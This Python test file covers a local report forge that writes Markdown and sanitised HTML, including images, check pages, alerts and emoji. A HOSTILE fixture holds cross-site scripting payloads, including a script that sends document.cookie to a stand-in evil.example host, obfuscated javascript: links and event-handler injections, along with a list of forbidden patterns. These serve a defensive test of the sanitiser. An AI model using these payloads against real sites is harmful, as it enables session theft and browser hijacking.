"""The local forge writes the report as files; its HTML never carries active content from the markdown."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest
from PIL import Image

from cml_action.context import RunContext
from cml_action.forges import make_forge
from cml_action.forges.base import CheckRequest, CommentRequest, ForgeOptions, Target
from cml_action.forges.local.forge import LocalForge
from cml_action.forges.local.html import render_markdown, sanitise
from cml_action.images import prepare_image_bytes

MARKER = "<!-- cml-action:key=cml/report -->"


@pytest.fixture
def forge(tmp_path: Path) -> LocalForge:
    ctx = RunContext(forge="local", workspace=tmp_path, head_sha="a" * 40)
    made = make_forge(ctx, ForgeOptions(output_dir=Path("out"), title="Demo"))
    assert isinstance(made, LocalForge)
    return made


def comment(body: str) -> CommentRequest:
    return CommentRequest(body=body, marker=MARKER, target=Target(kind="auto"), mode="update")


def test_limits_are_generous_and_preflight_needs_nothing(forge: LocalForge) -> None:
    assert forge.limits.comment >= 10_000_000 and forge.limits.check >= 10_000_000
    forge.preflight(wants_comment=True, wants_check=True, wants_images=True)  # no token, no error


def test_images_are_copied_and_linked_relatively(forge: LocalForge, tmp_path: Path) -> None:
    buffer = io.BytesIO()
    Image.new("RGB", (20, 10), (200, 10, 10)).save(buffer, "PNG")
    image = prepare_image_bytes(buffer.getvalue(), name_hint="roc.png", max_width=1600, out_dir=tmp_path / "prep")
    links = forge.publish_images([image, image])
    assert links == {image.sha256: f"images/{image.name}"}
    assert (tmp_path / "out" / "images" / image.name).read_bytes() == image.path.read_bytes()


def test_comment_writes_markdown_and_html_and_returns_a_file_url(forge: LocalForge, tmp_path: Path) -> None:
    body = f"## Demo\n\n![roc](images/abc.png)\n\n| Path | Metric |\n|---|---|\n| m.json | acc |\n\n{MARKER}\n"
    published = forge.post_comment(comment(body))
    out = tmp_path / "out"
    assert (out / "report.md").read_text() == body
    html = (out / "report.html").read_text()
    assert published.url == (out / "report.html").resolve().as_uri()
    assert published.where == "report.html"
    assert '<img src="images/abc.png" alt="roc">' in html
    assert "<th>Path</th>" in html and "<td>m.json</td>" in html
    assert "<title>Demo</title>" in html and "max-width: 980px" in html


def test_check_writes_json_and_a_page(forge: LocalForge, tmp_path: Path) -> None:
    request = CheckRequest(title="Demo", summary="**1 gate tripped**", conclusion="failure", head_sha="b" * 40)
    published = forge.post_check(request)
    record = json.loads((tmp_path / "out" / "check.json").read_text())
    assert (record["title"], record["conclusion"], record["summary"]) == ("Demo", "failure", "**1 gate tripped**")
    page = (tmp_path / "out" / "check.html").read_text()
    assert '<div class="check-banner check-failure">Demo: failure</div>' in page
    assert "<strong>1 gate tripped</strong>" in page
    assert published.where == "check.html"


HOSTILE = """# Report
<script>fetch('https://evil.example/?c='+document.cookie)</script>
<img src="x.png" onerror="alert(1)">
<a href="javascript:alert(1)">a</a> <a href=" JaVa&#x09;script:alert(2)">b</a> <a href="data:text/html,x">c</a>
<iframe src="https://evil.example"></iframe>
<div style="position:fixed" onclick="alert(3)">text stays</div>
<SCRIPT SRC=//evil.example/x.js></SCRIPT><svg><script>alert(4)</script></svg>
<object data="x.swf"></object><embed src="x.swf">
<a href="javascript&colon;alert(6)">d</a> <details ontoggle="alert(7)" open>e</details> <base href="https://evil.example/">

| a |
|---|
| <script>alert(5)</script> cell stays |

[link](javascript:alert(9)) and text stays

<img src=y onerror=alert(8)//
"""


def test_hostile_markdown_never_reaches_report_html(forge: LocalForge, tmp_path: Path) -> None:
    forge.post_comment(comment(HOSTILE))
    html = (tmp_path / "out" / "report.html").read_text().lower()
    markup = " ".join(re.findall(r"<[^>]*>", html.split("</style>", 1)[1]))  # every tag the browser would see
    for forbidden in ("<script", " on", "javascript", "<iframe", "<object", "<embed", "<svg", "<base", "evil.example",
                      "data:text", "style=", "alert("):  # fmt: skip
        assert forbidden not in markup, forbidden
    assert "<div>text stays</div>" in html
    assert "cell stays</td>" in html and "and text stays</p>" in html  # nothing after an attack is lost
    assert '<img src="x.png">' in html
    assert (tmp_path / "out" / "report.md").read_text() == HOSTILE  # the markdown file is kept as written


def test_sanitiser_keeps_github_constructs() -> None:
    kept = sanitise('<details open><summary>More</summary><p align="center">x</p></details><a href="#top">t</a>')
    assert kept == '<details open><summary>More</summary><p align="center">x</p></details><a href="#top">t</a>'
    assert sanitise('<img src="data:image/png;base64,AAAA">') == '<img src="data:image/png;base64,AAAA">'
    assert sanitise('<img src="data:image/svg+xml;base64,AAAA">') == "<img>"
    assert sanitise("</main></body><b>x") == "<b>x</b>"  # stray end tags cannot close the page around it


def test_markdown_features_tables_strikethrough_alerts_and_code() -> None:
    html = render_markdown("> [!WARNING]\n> 1 gate tripped\n\n~~old~~\n\n| a |\n|--:|\n| 1 |\n\n```\n<b>\n```\n")
    assert html.startswith(
        '<blockquote class="markdown-alert markdown-alert-warning">\n'
        '<p class="markdown-alert-title">Warning</p>\n<p>1 gate tripped</p>\n</blockquote>'
    )
    assert "<s>old</s>" in html
    assert '<td style="text-align:right">1</td>' in html
    assert "<pre><code>&lt;b&gt;\n</code></pre>" in html


def test_emoji_shortcodes_render_outside_code_only() -> None:
    assert render_markdown("tripped :x: `:x:` :not_an_emoji:") == "<p>tripped ❌ <code>:x:</code> :not_an_emoji:</p>\n"
